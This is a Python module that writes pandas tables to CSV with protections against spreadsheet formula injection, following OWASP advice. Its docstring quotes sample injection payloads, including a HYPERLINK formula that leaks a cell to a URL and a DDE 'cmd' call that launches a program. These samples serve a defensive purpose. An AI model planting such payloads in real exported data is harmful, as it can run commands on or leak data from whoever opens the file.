"""Tables written for a spreadsheet: CSV whose cells a spreadsheet shows and never runs.

A report's fields are written by strangers. A cell such as `=HYPERLINK("http://…"&A1,"click")`,
`@SUM(1+1)*cmd|' /c calc'!A0` or `+cmd|…` is a formula to Excel, LibreOffice and Google Sheets, which
run it when the file is opened ("CSV injection", OWASP). Every export goes through `csv_bytes`:

- A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in
  front, as OWASP advises: the spreadsheet then shows the text as it is (the quote is not shown).
- Hidden characters in text cells are shown as `<U+XXXX>` markers (`diagnostics.text.visible`), as
  on the pages: the file holds what a person can read.
- Lines end in CRLF (RFC 4180), so a carriage return or line feed inside a cell is always quoted:
  with bare LF line ends, Python's csv writer leaves a lone CR unquoted, and a spreadsheet reading
  it starts a new row there, whose first cell could be a formula no quote was put in front of.
- Columns of real numbers (integer, float, boolean dtypes) are written as numbers, untouched: a
  number cannot be a formula, and a quote would turn a count of -1 into text that no sum adds up.
  Numbers held as text (an object column) are text, and quoted like any other text.
"""

from __future__ import annotations

from typing import Any

import numpy as np
import pandas as pd

from diagnostics.text import visible

__all__ = ["FORMULA_STARTS", "csv_bytes", "neutral_cell", "neutral_frame"]

# OWASP's list: what makes a spreadsheet read a cell as a formula (or, for tab and CR, lets the
# next character start one after the spreadsheet trims the cell).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(value: str) -> str:
    """`value` made safe to open in a spreadsheet: hidden characters shown, and a quote in front of
    a formula's first character."""
    shown = visible(value)
    return f"'{shown}" if shown.startswith(FORMULA_STARTS) else shown


def _neutral_column(column: pd.Series) -> pd.Series:
    # Each distinct value is neutralized once (a million records hold a few thousand distinct
    # names), then spread back by its code; missing values stay missing.
    codes, uniques = pd.factorize(column.astype(object), use_na_sentinel=True)
    mapped = np.array([neutral_cell(u) if isinstance(u, str) else u for u in uniques], dtype=object)
    values = column.astype(object).to_numpy(copy=True)
    present = codes >= 0
    values[present] = mapped[codes[present]]
    return pd.Series(values, index=column.index, name=column.name, dtype=object)


def _is_text(dtype: Any) -> bool:
    return (
        isinstance(dtype, pd.CategoricalDtype)
        or pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
    )


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell passed through `neutral_cell`; numeric, boolean and
    time columns as they are."""
    out = frame.copy()
    for name in out.columns:
        if _is_text(out[name].dtype):
            out[name] = _neutral_column(out[name])
    return out


def csv_bytes(frame: pd.DataFrame, **to_csv: Any) -> bytes:
    """`frame` as UTF-8 CSV without its index, every text cell neutralized (`neutral_frame`);
    `to_csv` are more pandas `to_csv` options (e.g. `date_format`)."""
    text: str = neutral_frame(frame).to_csv(index=False, lineterminator="\r\n", **to_csv)
    return text.encode("utf-8")
